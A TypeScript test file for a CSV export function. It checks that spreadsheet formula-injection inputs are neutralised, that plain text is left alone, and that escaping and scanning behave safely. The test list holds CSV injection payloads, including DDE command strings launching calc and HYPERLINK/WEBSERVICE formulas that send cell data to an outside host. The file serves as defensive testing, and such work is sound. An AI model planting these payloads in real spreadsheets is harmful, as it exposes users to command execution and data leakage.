import assert from 'node:assert/strict'
import { test } from 'node:test'
import { csvCell, csvOf } from '../../contract/csv.ts'
import { filesUnder, isTest, text } from '../testing/sources.ts'

for (const text of [
  '=1+1',
  '+33',
  '-2',
  '@SUM(A1)',
  '\tx',
  '\r=x',
  ' =1',
  '\u00a0=1',
  '\u200b=1',
  '\ufeff=1',
  '\u202e=1',
  '\0=1',
  '\n=1',
  '＝1',
  '＋1',
  '－1',
  '＠x',
  '｜x',
  '％x',
  '|calc',
  ' |calc',
  "cmd|' /C calc'!A0".replace('cmd', ''),
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '%0a=1+1',
  '%0A=1+1',
  '%0D%0A=1+1',
  '%09=1',
  ' %0a-1',
  '%20|calc',
  '=HYPERLINK("https://exemple.fr?x="&A1)',
  '=WEBSERVICE("https://exemple.fr")',
  "-2+3+cmd|' /C calc'!A0",
])
  test(`SEC-6: a cell that a spreadsheet would run stays text: ${JSON.stringify(text)}`, () =>
    assert.ok(csvCell(text).startsWith(`"'`), csvCell(text)))

test('SEC-6: what is no formula is left as it is, and a cell ends where it ends', () => {
  for (const text of [
    'Boulangerie',
    'a=1',
    'x|y',
    '20 % des postes',
    '1+1',
    '’=1',
    'É',
    '',
    '3',
    "L'Atelier",
    'a%0a=1',
  ])
    assert.equal(csvCell(text), `"${text}"`)
  assert.equal(
    csvOf([
      ['a"b;c', null, 3],
      ['d\r\n=e', 0, ''],
    ]),
    '\uFEFF"a""b;c";"";"3"\r\n"d\r\n=e";"0";""\r\n',
  )
})

test('SEC-6: one place writes cells: nobody else, in pages either, doubles quotation marks, save what the import reads again itself', () => {
  const code = filesUnder('contract', 'server', 'web').filter(file => !isTest(file))
  const writers = code.filter(file => text(file).includes(`replaceAll('"', '""')`))
  assert.deepEqual(writers.sort(), ['contract/csv.ts', 'server/territory-and-register/register/stock-files.ts'])
})

test('REL-4: looking for a formula takes a time in proportion to the cell', () => {
  for (const blank of [' ', '%0a', '\u200b', '%', '\t ']) {
    const { user } = process.cpuUsage()
    csvCell(`${blank.repeat(200_000)}x`)
    assert.ok((process.cpuUsage().user - user) / 1000 < 500, blank)
  }
})
